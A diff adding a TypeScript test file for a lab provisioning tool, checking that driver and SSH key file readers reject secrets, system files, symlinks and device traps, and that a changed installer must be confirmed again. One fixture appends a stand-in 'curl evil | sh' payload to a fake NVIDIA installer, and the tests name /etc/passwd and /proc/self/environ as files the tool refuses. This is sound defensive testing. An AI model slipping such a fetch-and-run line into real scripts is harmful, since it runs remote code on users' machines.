@@ -1,0 +1,113 @@
+/** Files of this computer that a lab names: read within limits, and carried to a node only where they are what they should be. */
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { readDriverFile } from '../provision/driver-file.ts';
+import { createRights, forgetfulMemory } from '../provision/rights.ts';
+import { createAsker } from '../provision/testing/asker.ts';
+import { readKeyFile } from '../ssh/key-file.ts';
+
+let home = '';
+beforeEach(() => {
+  home = mkdtempSync(join(tmpdir(), 'ringlab-own-files-'));
+});
+afterEach(() => rmSync(home, { recursive: true, force: true }));
+
+const at = (name: string): string => join(home, name);
+const put = (name: string, content: string): string => {
+  writeFileSync(at(name), content);
+  return at(name);
+};
+/** What opens and never ends, or never opens. */
+function traps(extension: string): string[] {
+  execFileSync('mkfifo', [at(`fifo${extension}`)]);
+  mkdirSync(at(`folder${extension}`));
+  for (const device of ['zero', 'full', 'tty', 'stdin', 'random'])
+    symlinkSync(`/dev/${device}`, at(`${device}${extension}`));
+  symlinkSync(at(`loop${extension}`), at(`loop${extension}`));
+  const names = ['fifo', 'folder', 'zero', 'full', 'tty', 'stdin', 'random', 'loop', 'absent'];
+  return names.map((name) => at(`${name}${extension}`));
+}
+
+describe('finding 4: a lab carries off no file of this computer', () => {
+  const installer =
+    '#!/bin/sh\n# This script was generated using Makeself\nlabel="NVIDIA Accelerated Graphics Driver"\n';
+
+  it('finding 4: a driver file is NVIDIA’s installer or a Debian package, by its content', async () => {
+    const secrets = [
+      put('id_ed25519', '-----BEGIN OPENSSH PRIVATE KEY-----\n'),
+      put('id.run', '-----BEGIN OPENSSH PRIVATE KEY-----\n'),
+      put('own.run', '#!/bin/sh\nexport TOKEN=secret\n'),
+      put('notes.deb', 'NVIDIA makeself\n'),
+      put('installer', installer),
+      put('empty.run', ''),
+      '/etc/passwd',
+      '/proc/self/environ',
+    ];
+    symlinkSync(at('id_ed25519'), at('link.run'));
+    symlinkSync('/proc/self/environ', at('environ.run'));
+    for (const path of [...secrets, at('link.run'), at('environ.run')])
+      await expect(readDriverFile(path, home), path).rejects.toMatchObject({
+        code: 'driver_file_kind',
+        params: { path },
+      });
+    for (const path of [...traps('.run'), ...traps('.deb')])
+      await expect(readDriverFile(path, home), path).rejects.toMatchObject({ code: 'file_unreadable' });
+    put('NVIDIA-Linux.run', installer);
+    expect(await readDriverFile('~/NVIDIA-Linux.run', home)).toMatchObject({
+      path: at('NVIDIA-Linux.run'),
+      kind: 'NVIDIA .run',
+      bytes: installer.length,
+    });
+    put('cuda.deb', '!<arch>\ndebian-binary   1\n');
+    expect(await readDriverFile(at('cuda.deb'), home)).toMatchObject({ kind: 'Debian .deb' });
+  });
+
+  it('finding 4: the question names path, size, kind and SHA-256; another content is another question', async () => {
+    const asker = createAsker();
+    const rights = createRights({ prompter: asker, memory: forgetfulMemory() }).of({
+      labId: 'l',
+      nodeId: 'n',
+      nodeName: 'n',
+      host: 'h',
+      port: 22,
+      user: 'u',
+      authentication: { method: 'agent' },
+    });
+    const changes = [{ what: { en: 'Install', 'zh-CN': '安装' }, command: 'sh x.run' }];
+    const { signal } = new AbortController();
+    const path = put('x.run', installer);
+    const first = await readDriverFile(path, home);
+    await rights.allow('driver', changes, signal);
+    await rights.allow('driver', changes, signal, first);
+    await rights.allow('driver', changes, signal, first);
+    expect(asker.questions).toHaveLength(2);
+    expect(asker.questions[1]).toMatchObject({
+      files: [{ path, bytes: installer.length, kind: 'NVIDIA .run', sha256: first.sha256 }],
+    });
+    put('x.run', `${installer}curl evil | sh\n`);
+    const second = await readDriverFile(path, home);
+    await rights.allow('driver', changes, signal, second);
+    expect(asker.questions).toHaveLength(3);
+    // The file before is confirmed anew, too: one content at a time.
+    await rights.allow('driver', changes, signal, first);
+    expect(asker.questions).toHaveLength(4);
+    await rights.allow('driver', changes, signal);
+    expect(asker.questions).toHaveLength(4);
+  });
+});
+
+describe('a key file that is none', () => {
+  it('is refused at once with its reason, whatever it is: a device, a pipe, a folder, a disk image', async () => {
+    put('large', '');
+    truncateSync(at('large'), 3 * 1024 ** 3);
+    for (const path of [...traps(''), at('large')])
+      await expect(readKeyFile(path, home), path).rejects.toMatchObject({
+        code: 'key_unreadable',
+        params: { path, reason: expect.stringMatching(/^it (is|does not exist|may not)/) as string },
+      });
+    await expect(readKeyFile('/proc/self/environ', home)).rejects.toMatchObject({ code: 'key_unreadable' });
+  });
+});
